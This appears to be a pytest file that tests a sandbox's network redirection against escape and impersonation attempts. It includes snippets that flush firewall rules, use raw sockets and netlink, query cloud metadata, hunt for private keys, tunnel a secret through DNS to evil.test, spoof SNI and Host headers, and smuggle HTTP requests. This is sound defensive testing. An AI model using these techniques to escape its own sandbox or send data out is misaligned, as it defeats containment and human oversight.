# ruff: noqa: E501
"""Attempts to get past the redirection of a sandbox, or through it under a false name."""

import contextlib
import json
import socket
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from tests.sandbox.egress.redirection import (
    Internet,
    RedirectedSandboxes,
    backend,
    internet,
    python,
    redirected,
    redirection_works,
    refused,
)

from ostinato.sandbox.backends.namespaces.backend import NsSandbox

__all__ = ["backend", "internet", "redirected", "redirection_works"]
pytestmark = pytest.mark.transparent

HELPERS = """
import contextlib, ctypes, json, os, shutil, socket, ssl, struct, subprocess, sys
UDP, TCP = socket.SOCK_DGRAM, socket.SOCK_STREAM
facts = json.loads(open("facts.json").read())
port, elsewhere = facts["port"], facts["udp"]

def tls(address, name, said=b""):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(address, 30) as raw, context.wrap_socket(raw, server_hostname=name) as s:
        s.sendall(said); return b"".join(iter(lambda: s.recv(9999), b""))

def asked(name, kind=1):
    q = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    s = socket.socket(type=UDP); s.settimeout(5); s.sendto(q + b"\\0" + struct.pack(">HH", kind, 1), ("8.8.8.8", 53))
    answer = s.recv(9999); return struct.unpack(">6H", answer[:12])[3], answer[3] & 15

def attempt():
    {body}

try: got = attempt()
except (OSError, subprocess.SubprocessError) as error: got = None
print(json.dumps({{"got": repr(got) if got else None}}))
"""

PAST = {
    "flush the rules": """
    nft = shutil.which("nft", path="/usr/sbin:/sbin:/usr/bin"); done = subprocess.run([nft, "flush", "ruleset"], capture_output=True)
    return done.returncode == 0""",
    "list the rules": """
    nft = shutil.which("nft", path="/usr/sbin:/sbin:/usr/bin"); done = subprocess.run([nft, "list", "ruleset"], capture_output=True)
    return b"redirect" in done.stdout""",
    "rules from a user namespace of one's own": """
    return subprocess.run(["unshare", "-Ur", "nft", "flush", "ruleset"], capture_output=True).returncode == 0""",
    "another route": """
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("=BBBBBBBBI", 2, 8, 0, 0, 254, 3, 254, 2, 0) + struct.pack("=HH4s", 8, 1, b"\\x0a\\0\\0\\0") + struct.pack("=HHI", 8, 4, 1)
    s.send(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body); return struct.unpack_from("=i", s.recv(999), 16)[0] == 0""",
    "netfilter by netlink": """
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    s.send(struct.pack("=IHHIIBBH", 20, (10 << 8) | 2, 5, 1, 0, 0, 0, 0)); return struct.unpack_from("=i", s.recv(999), 16)[0] == 0""",
    "take the loopback down": """
    import fcntl; fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sh22x", b"lo", 0)); return True""",
    "a raw socket": """
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 6).sendto(b"x" * 40, ("127.0.0.1", 0)); return True""",
    "a raw packet": """
    socket.socket(17, socket.SOCK_RAW, socket.htons(3)).bind(("lo", 0)); return True""",
    "a mark that the rules might skip": """
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 1); return True""",
    "a transparent socket": """
    s = socket.socket(); s.setsockopt(socket.SOL_IP, 19, 1); return True""",
    "IPv6": """
    return socket.create_connection(("2606:4700:4700::1111", 443), 5)""",
    "IPv4 in IPv6": """
    s = socket.create_connection(("::ffff:127.0.0.1", port), 5); s.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n"); return s.recv(9)""",
    "UDP to elsewhere": """
    s = socket.socket(type=UDP); s.settimeout(0.5); s.sendto(b"in!", ("198.18.0.1", elsewhere)); return s.recv(9)""",
    "UDP to the outer loopback": """
    s = socket.socket(type=UDP); s.settimeout(0.5); s.sendto(b"in!", ("127.0.0.1", elsewhere)); return s.recv(9)""",
    "UDP to a public address": """
    return socket.socket(type=UDP).sendto(b"in!", ("1.1.1.1", 443))""",
    "QUIC to an allowed name": """
    return socket.socket(type=UDP).sendto(b"in!", ("good.test", port))""",
    "a ping": """
    return socket.socket(socket.AF_INET, UDP, 1).sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("1.1.1.1", 0))""",
    "SCTP": """
    return socket.socket(socket.AF_INET, TCP, 132).connect(("1.1.1.1", 443)) is None""",
    "broadcast": """
    s = socket.socket(type=UDP); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); return s.sendto(b"x", ("255.255.255.255", 9))""",
    "multicast": """
    return socket.socket(type=UDP).sendto(b"x", ("224.0.0.251", 5353))""",
    "a fast open": """
    s = socket.socket(); return s.sendto(b"GET / HTTP/1.1\\r\\n\\r\\n", 0x20000000, ("1.1.1.1", 80)) and s.recv(9)""",
    "an address nobody was told": """
    return tls(("198.18.99.99", port), "good.test", b"GET / HTTP/1.1\\r\\n\\r\\n")""",
    "an address of the machine": """
    return tls(("127.0.0.1", port), "good.test", b"GET / HTTP/1.1\\r\\n\\r\\n")""",
    "a public address": """
    return tls(("1.1.1.1", 443), "good.test", b"GET / HTTP/1.1\\r\\n\\r\\n")""",
    "the cloud's metadata": """
    s = socket.create_connection(("169.254.169.254", 80), 5); s.sendall(b"GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"); return s.recv(9)""",
    "another port of an allowed name": """
    s = socket.create_connection(("good.test", elsewhere), 5); s.sendall(b"GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"); return s.recv(9)""",
    "the proxy by its own address": """
    s = socket.create_connection(("127.0.0.1", 3128), 5); s.sendall(b"CONNECT good.test:%d HTTP/1.1\\r\\n\\r\\n" % port); return s.recv(9)""",
    "the authority's key": """
    import sys
    walks = [walk for root in ("/run", "/etc/ssl", "/tmp", "/repo") for walk in os.walk(root) if not walk[0].startswith(sys.prefix)]
    found = [p for d, _, names in walks for p in (os.path.join(d, n) for n in names if n != "code.py")
        if b"PRIVATE KEY" in open(p, "rb").read()]; return found""",
    "certificates of one's own": """
    open("/run/ostinato/ca.pem", "ab").write(b"x"); return True""",
    "a resolver of one's own": """
    open("/etc/resolv.conf", "w").write("nameserver 8.8.8.8"); return True""",
}
"""What must give no evidence of having got anywhere."""

TOLD = {
    "a question that tells a secret": ("return asked('c2VjcmV0.evil.test')[1] == 0", "no rule"),
    "a question for text that tells a secret": ("return asked('c2VjcmV0.evil.test', 16)[1] == 0", "no rule"),
    "a question whose name ends like an allowed one": ("return asked('evilgood.test')[1] == 0", "no rule"),
    "a name below one that is allowed alone": ("return asked('secret.good.test')[1] == 0", "no rule"),
    "another name in the greeting": (
        "return tls(('good.test', port), 'other.test', b'GET / HTTP/1.1\\r\\n\\r\\n')",
        "requests 'other.test'",
    ),
    "another name in a greeting in small pieces": (
        "a = ssl.MemoryBIO(); b = ssl.MemoryBIO(); o = ssl.create_default_context().wrap_bio(a, b, server_hostname='other.test')\n"
        "    with contextlib.suppress(ssl.SSLWantReadError): o.do_handshake()\n"
        "    s = socket.create_connection(('good.test', port), 30); s.setsockopt(6, 1, 1)\n"
        "    for byte in b.read(): s.send(bytes([byte]))\n"
        "    return s.recv(9)",
        "requests 'other.test'",
    ),
    "another host in what is inspected": (
        "return tls(('looked.test', port), 'looked.test', b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n').split()[1] != b'403'",
        "requests 'other.test'",
    ),
    "two hosts in what is inspected": (
        "return tls(('looked.test', port), 'looked.test', b'GET / HTTP/1.1\\r\\nHost: looked.test:%d\\r\\nHost: other.test\\r\\n\\r\\n' % port).split()[1] != b'403'",
        "2 `Host` headers",
    ),
    "a whole address in what is inspected": (
        "return tls(('looked.test', port), 'looked.test', b'GET http://other.test/ HTTP/1.1\\r\\nHost: looked.test\\r\\n\\r\\n').split()[1] != b'403'",
        "is not a path",
    ),
    "a tunnel in what is inspected": (
        "return tls(('looked.test', port), 'looked.test', b'CONNECT other.test:443 HTTP/1.1\\r\\nHost: looked.test\\r\\n\\r\\n').split()[1] != b'403'",
        "is not a path",
    ),
    "another greeting in what is inspected": (
        "return tls(('looked.test', port), 'other.test', b'GET / HTTP/1.1\\r\\n\\r\\n')",
        "requests 'other.test'",
    ),
    "no HTTP in what is inspected": (
        "return tls(('looked.test', port), 'looked.test', b'SSH-2.0-x\\r\\n\\r\\n').split()[1] != b'403'",
        "not an HTTP head",
    ),
    "neither TLS nor HTTP to what is inspected": (
        "s = socket.create_connection(('looked.test', port), 30); s.sendall(b'SSH-2.0-x\\r\\n\\r\\n'); return s.recv(99).split()[1] != b'403'",
        "not an HTTP head",
    ),
    "another host in plain HTTP": (
        "s = socket.create_connection(('good.test', port), 30); s.sendall(b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'); return s.recv(99).split()[1] != b'403'",
        "requests 'other.test'",
    ),
    "another body than its head says": (
        "return tls(('looked.test', port), 'looked.test', b'POST / HTTP/1.1\\r\\nHost: looked.test:%d\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' % port).split()[1] != b'403'",
        "two lengths",
    ),
}
"""What must be refused, and written down with these words."""


@contextlib.contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A UDP port of the machine's loopback, and what arrives there."""
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.bind(("127.0.0.1", 0))
        sock.setblocking(False)
        heard: list[bytes] = []
        yield sock.getsockname()[1], heard
        with contextlib.suppress(BlockingIOError):
            while True:
                heard.append(sock.recv(99))


@pytest.fixture
async def held(internet: Internet, redirected: RedirectedSandboxes) -> AsyncIterator[NsSandbox]:
    """May say anything to `good.test` and, inspected, to `looked.test`; both lead to a server that hears no
    word in any of these tests."""
    with listening() as (udp, heard):
        async with internet.serving() as port:
            (redirected.repo / "facts.json").write_text(json.dumps({"port": port, "udp": udp}))
            sandbox = await redirected.open(
                f"good.test:{port}", f"looked.test:{port}", inspect=(f"looked.test:{port}",)
            )
            yield sandbox
            await sandbox.destroy()
    assert heard == []
    assert internet.heads == []


async def tried(sandbox: NsSandbox, body: str) -> Any:
    output = await python(sandbox, HELPERS.format(body=body.strip()))
    return json.loads(output.splitlines()[-1])["got"]


@pytest.mark.parametrize("name", PAST)
async def test_nothing_gets_past_the_gate(held: NsSandbox, name: str) -> None:
    assert await tried(held, PAST[name]) is None


@pytest.mark.parametrize("name", TOLD)
async def test_a_false_name_is_refused_and_noted(held: NsSandbox, name: str) -> None:
    body, why = TOLD[name]
    assert await tried(held, body) is None
    await refused(held, why)


async def test_the_attempts_would_be_noticed(internet: Internet, redirected: RedirectedSandboxes) -> None:
    """The same words to the right host arrive."""
    async with internet.serving() as port:
        (redirected.repo / "facts.json").write_text(json.dumps({"port": port, "udp": 1}))
        sandbox = await redirected.open(
            f"good.test:{port}", f"looked.test:{port}", inspect=(f"looked.test:{port}",)
        )
        for host in ("good.test", "looked.test"):
            said = f"b'GET / HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'"
            assert "hello" in (await tried(sandbox, f"return tls(('{host}', port), '{host}', {said})") or "")
        assert await tried(sandbox, "return asked('good.test') == (1, 0)")
        await sandbox.destroy()
    assert len(internet.heads) == 2


async def test_a_flood_of_questions_ends_at_the_gate(held: NsSandbox) -> None:
    """They fail in there; what it says to itself is not counted."""
    body = """
    left = own = 0
    for n in range(20000):
        with socket.socket(type=UDP) as s, contextlib.suppress(OSError):
            s.sendto(b"x", ("8.8.8.8", 53)); left += 1
    for n in range(2000):
        with socket.socket(type=UDP) as s: s.sendto(b"x", ("127.0.0.1", 10000 + n)); own += 1
    return None if left < 20000 and own == 2000 else (left, own)
"""
    assert await tried(held, body) is None
